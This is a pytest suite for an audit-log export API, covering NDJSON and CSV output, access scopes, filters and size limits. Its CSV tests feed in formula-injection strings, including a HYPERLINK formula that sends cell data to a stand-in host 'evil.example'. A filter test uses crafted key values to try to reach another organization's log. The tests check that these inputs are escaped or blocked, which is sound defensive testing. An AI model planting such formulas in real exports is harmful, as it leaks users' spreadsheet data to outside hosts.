import json
from typing import Any

import pytest

from chalicelib.features.audit.exports.logic import inline_export
from chalicelib.kernel.execution import envelope
from tests.harness import audit_logs, memory_aws
from tests.harness.api import ApiClient
from tests.harness.audit_logs import list_entries
from tests.harness.exports import append_entries, get_inline_export, parse_csv
from tests.harness.invitations import create_invitation
from tests.harness.organizations import (
    CreatedOrganization,
    add_organization_member,
    create_api_key,
    create_organization,
)

COLUMNS = (
    '"sequence","id","occurredAt","type","actorType","actorId","actorName","targetType","targetId","targetName",'
    '"operationId","requestId","ipAddress","userAgent","changes","data","leafHash","treeSize","erased"'
)


def exported_entries(api: ApiClient, organization: CreatedOrganization, **query: Any) -> list[dict[str, Any]]:
    """Return the entries of an export in NDJSON."""
    response = get_inline_export(api, organization, **query)
    assert response.status == 200, response.text
    assert response.text == "" or response.text.endswith("\n")
    return [json.loads(line) for line in response.text.splitlines()]


class TestExportAuditLog:
    def test_the_file_has_a_line_for_each_entry(self, api, organization_with_ten_entries, clock):
        timestamp = clock.freeze()
        response = get_inline_export(api, organization_with_ten_entries)
        assert response.headers["Content-Type"] == "application/x-ndjson"
        name = f"{organization_with_ten_entries.record['slug']}-audit-log-{timestamp[:10]}.ndjson"
        assert response.headers["Content-Disposition"] == f'attachment; filename="{name}"'
        assert response.headers["Cache-Control"] == "no-store"
        assert [json.loads(line) for line in response.text.splitlines()] == list_entries(
            api, organization_with_ten_entries
        )[::-1]

    def test_pending_entries_come_last(self, api, organization_with_ten_entries):
        for name in ("First", "Second"):
            api.patch(
                organization_with_ten_entries.path, caller=organization_with_ten_entries.owner, json={"name": name}
            )
        listed = exported_entries(api, organization_with_ten_entries)
        assert [entry["sequence"] for entry in listed] == [*range(1, 11), None, None]
        assert [entry["data"]["name"] for entry in listed[-2:]] == ["First", "Second"]

    def test_entries_are_in_the_order_of_their_sequence_despite_clock_skew(self, api, ada, clock, workers):
        organization, other_organization = (
            create_organization(api, ada, name="Founded just now"),
            create_organization(api, ada, name="Other"),
        )
        clock.shift(seconds=60)
        create_invitation(api, organization, "first@example.org")
        workers.deliver()
        clock.shift(seconds=-90)
        create_invitation(api, organization, "second@example.org")
        workers.deliver()
        assert [entry["sequence"] for entry in list_entries(api, organization)] == [2, 1, 3]
        assert [entry["sequence"] for entry in exported_entries(api, organization)] == [1, 2, 3]
        assert len(exported_entries(api, other_organization)) == 1

    def test_long_entries_are_complete(self, api, ada, workers):
        organization = create_organization(api, ada, companyAddress="é" * 3000)
        assert exported_entries(api, organization) == list_entries(api, organization)
        workers.deliver()
        assert exported_entries(api, organization) == list_entries(api, organization)

    def test_only_admins_and_keys_with_the_scope_may_export(self, api, organization, grace, edith, mary, stranger):
        assert get_inline_export(api, organization, caller=grace).status == 200
        for person in (edith, mary):
            assert get_inline_export(api, organization, caller=person).status_and_code == "403 insufficient_role"
        assert get_inline_export(api, organization, caller=stranger).status_and_code == "404 not_found"
        assert (
            get_inline_export(api, organization, caller=create_api_key(api, organization, "audit-log:read")).status
            == 200
        )
        for scope in ("read", "write", "members:read"):
            key = create_api_key(api, organization, scope)
            assert get_inline_export(api, organization, caller=key).status_and_code == "403 insufficient_scope"

    def test_an_inline_export_is_not_logged(self, api, organization):
        before = list_entries(api, organization)
        get_inline_export(api, organization)
        assert list_entries(api, organization) == before

    def test_an_unchanged_export_is_not_modified(self, api, organization_with_ten_entries):
        etag = get_inline_export(api, organization_with_ten_entries).etag
        path, headers = f"{organization_with_ten_entries.path}/audit-log/export", {"If-None-Match": etag}
        assert api.get(path, caller=organization_with_ten_entries.owner, headers=headers).status == 304
        api.patch(
            organization_with_ten_entries.path, caller=organization_with_ten_entries.owner, json={"name": "Another"}
        )
        assert api.get(path, caller=organization_with_ten_entries.owner, headers=headers).status == 200

    @pytest.mark.parametrize("export_format", ["xml", "", "NDJSON", "ndjson.gz"])
    def test_an_unknown_format_is_rejected(self, api, organization, export_format):
        rejected = get_inline_export(api, organization, format=export_format)
        assert rejected.status_and_code == "422 validation_failed"
        assert set(rejected.errors) == {"query/format"}

    def test_unreadable_entries_are_omitted(self, api, organization_with_ten_entries):
        audit_logs.alter_item(audit_logs.entry_item(organization_with_ten_entries, 3), body=b"no json")
        audit_logs.alter_item(
            audit_logs.entry_item(organization_with_ten_entries, 5),
            body=audit_logs.entry_item(organization_with_ten_entries, 5)["body"][:-1] + b"\n}",
        )
        item = audit_logs.entry_item(organization_with_ten_entries, 7)
        memory_aws.put_item({name: value for name, value in item.items() if name != "body"})
        for export_format in ("ndjson", "csv"):
            response = get_inline_export(api, organization_with_ten_entries, format=export_format)
            assert len(response.text.splitlines()) == 7 + (export_format == "csv")


class TestFilters:
    def test_the_filters_match_those_of_the_list(self, api, organization, grace, mary):
        for n in range(3):
            api.patch(organization.path, caller=grace, json={"name": f"Name {n}"})
            api.patch(
                f"{organization.path}/members/{mary.id}", caller=grace, json={"role": ("editor", "member")[n % 2]}
            )
        timestamps = sorted(entry["occurredAt"] for entry in list_entries(api, organization))
        queries: list[dict[str, Any]] = [
            {"type": "organization.updated"},
            {"type": "organization.member.*"},
            {"actorId": grace.id},
            {"targetId": organization.id},
            {"targetId": organization.id, "actorId": grace.id.upper()},
            {"from": timestamps[2]},
            {"to": timestamps[-3]},
            {"from": timestamps[2], "to": timestamps[-3]},
            {"type": "organization.*", "actorId": grace.id, "from": timestamps[4], "to": timestamps[-2]},
            {"from": timestamps[2], "to": timestamps[2]},
            {"actorId": "nobody"},
        ]
        for query in queries:
            assert exported_entries(api, organization, **query) == list_entries(api, organization, **query)[::-1], query

    def test_the_limit_of_the_list_is_ignored(self, api, organization_with_ten_entries):
        assert len(exported_entries(api, organization_with_ten_entries, limit=1)) == 10

    @pytest.mark.parametrize("query", [{"type": "*.member"}, {"from": "yesterday"}, {"to": "2026-11-20"}])
    def test_an_invalid_filter_is_rejected(self, api, organization, query):
        rejected = get_inline_export(api, organization, **query)
        assert rejected.status_and_code == "422 validation_failed"
        assert set(rejected.errors) == {f"query/{name}" for name in query}

    def test_a_range_that_starts_after_its_end_is_rejected(self, api, organization):
        query: dict[str, Any] = {"from": "2026-11-20T09:30:00Z", "to": "2026-11-19T09:30:00Z"}
        rejected = get_inline_export(api, organization, **query)
        assert (rejected.status_and_code, rejected.errors) == ("422 validation_failed", {"query/from": "out_of_range"})

    def test_a_target_filter_cannot_reach_another_log(self, api, ada, stranger):
        other_log, own_log = create_organization(api, ada), create_organization(api, stranger)
        for value in (other_log.id, f"x#A#{other_log.id}", "{log_id}"):
            assert exported_entries(api, own_log, targetId=value) == []


class TestCsv:
    def test_a_csv_row_has_the_fields_of_the_ndjson_line(self, api, organization_with_ten_entries, grace):
        add_organization_member(organization_with_ten_entries, grace, "admin")
        response = get_inline_export(api, organization_with_ten_entries, format="csv")
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
        assert response.headers["Content-Disposition"].endswith('.csv"')
        assert response.text.splitlines()[0] == COLUMNS
        table = parse_csv(response.text)
        for row, entry in zip(table, exported_entries(api, organization_with_ten_entries), strict=True):
            assert row["sequence"] == str(entry["sequence"] or "")
            assert (row["id"], row["occurredAt"], row["type"]) == (entry["id"], entry["occurredAt"], entry["type"])
            for name in ("type", "id", "name"):
                assert row[f"actor{name.title()}"] == entry["actor"][name]
                assert row[f"target{name.title()}"] == entry["target"][name]
            for name in ("operationId", "requestId", "ipAddress", "userAgent"):
                assert row[name] == (entry["context"][name] or "")
            assert json.loads(row["changes"]) == entry["changes"]
            assert json.loads(row["data"]) == entry["data"]
            integrity = entry["integrity"] or {"leafHash": "", "treeSize": ""}
            assert (row["leafHash"], row["treeSize"]) == (integrity["leafHash"], str(integrity["treeSize"]))
            assert row["erased"] == ""

    @pytest.mark.parametrize(
        "text", ["=1+1", "+1", "-1", "@A1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20A1", '  "=1+1', "\u200b=1"]
    )
    def test_formulas_are_escaped(self, api, ada, text):
        organization = create_organization(api, ada, name=text, slug="engines")
        (row,) = parse_csv(get_inline_export(api, organization, format="csv").text)
        assert row["targetName"] == f"'{text.strip()}"

    @pytest.mark.parametrize("text", ["a;=1+1", "a|+1", 'a;"-1', "a ; @A1"])
    def test_formulas_after_other_separators_are_escaped(self, api, ada, text):
        organization = create_organization(api, ada, name=text, slug="engines")
        line = get_inline_export(api, organization, format="csv").text.splitlines()[1]
        fields = [part.lstrip(' "') for part in line.replace("|", ";").split(";")[1:]]
        assert fields
        assert not any(part.startswith(("=", "+", "-", "@")) for part in fields)

    def test_a_formula_in_a_user_agent_is_escaped(self, api, organization):
        agent = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
        api.patch(organization.path, caller=organization.owner, json={"name": "B"}, headers={"User-Agent": agent})
        assert parse_csv(get_inline_export(api, organization, format="csv").text)[-1]["userAgent"] == f"'{agent}"

    def test_an_empty_csv_has_the_header(self, api, organization):
        assert get_inline_export(api, organization, format="csv", actorId="nobody").text == f"{COLUMNS}\r\n"


class TestTooLargeExports:
    def assert_too_large(self, api: ApiClient, organization: CreatedOrganization, reason: str, **query: Any) -> None:
        rejected = get_inline_export(api, organization, **query)
        assert rejected.status_and_code == "409 export_too_large"
        assert reason in rejected.json["detail"]
        assert f"POST {organization.path}/audit-log/export-async" in rejected.json["detail"]

    def test_the_limits_are_those_of_the_contract(self):
        assert (inline_export.MAX_ENTRIES, inline_export.MAX_BYTES) == (10_000, 5_000_000)

    def test_too_many_entries_are_rejected(self, api, organization_with_ten_entries, monkeypatch):
        monkeypatch.setattr(inline_export, "MAX_ENTRIES", 10)
        assert len(exported_entries(api, organization_with_ten_entries)) == 10
        api.patch(
            organization_with_ten_entries.path, caller=organization_with_ten_entries.owner, json={"name": "One more"}
        )
        self.assert_too_large(api, organization_with_ten_entries, "more than 10 entries")
        assert len(exported_entries(api, organization_with_ten_entries, type="organization.updated")) == 10

    @pytest.mark.parametrize("char_count", [100, 6_000])
    def test_too_many_bytes_are_rejected(self, api, ada, monkeypatch, char_count):
        organization = create_organization(api, ada)
        append_entries(organization.id, 30, char_count)
        size = len(get_inline_export(api, organization).text.encode())
        monkeypatch.setattr(inline_export, "MAX_BYTES", size)
        assert len(exported_entries(api, organization)) == 31
        for max_bytes in (size - 1, size // 3):
            monkeypatch.setattr(inline_export, "MAX_BYTES", max_bytes)
            self.assert_too_large(api, organization, f"more than {max_bytes:,} bytes")

    def test_escaped_characters_count_with_their_encoded_size(self, api, ada, monkeypatch):
        organization = create_organization(api, ada, name="🚂" * 200, slug="trains")
        text = get_inline_export(api, organization).text
        monkeypatch.setattr(envelope, "MAX_ENVELOPE_BYTES", len(json.dumps(text)) + 10_000)
        assert get_inline_export(api, organization).text == text
        monkeypatch.setattr(envelope, "MAX_ENVELOPE_BYTES", len(json.dumps(text)))
        self.assert_too_large(api, organization, "than a response can be")

    def test_a_filter_that_matches_few_entries_has_a_query_limit(self, api, ada, grace, monkeypatch):
        organization = create_organization(api, ada)
        add_organization_member(organization, grace, "admin")
        append_entries(organization.id, 250, 6_000)
        monkeypatch.setattr(inline_export, "MAX_ENTRIES", 99)  # This is also the page size of the queries.
        monkeypatch.setattr(inline_export, "MAX_QUERIES", 3)
        assert len(exported_entries(api, organization, type="organization.invitation.*")) == 1
        monkeypatch.setattr(inline_export, "MAX_QUERIES", 2)
        self.assert_too_large(api, organization, "too long to be searched", type="organization.invitation.*")
        assert len(exported_entries(api, organization, type="organization.invitation.accepted")) == 1

    def test_reading_stops_once_the_limit_is_exceeded(self, api, ada, monkeypatch):
        organization = create_organization(api, ada)
        append_entries(organization.id, 400, 6_000)
        monkeypatch.setattr(inline_export, "MAX_BYTES", 50_000)
        rejected = get_inline_export(api, organization)
        assert rejected.calls.call_names == ["dynamodb:BatchGetItem", "dynamodb:Query"]
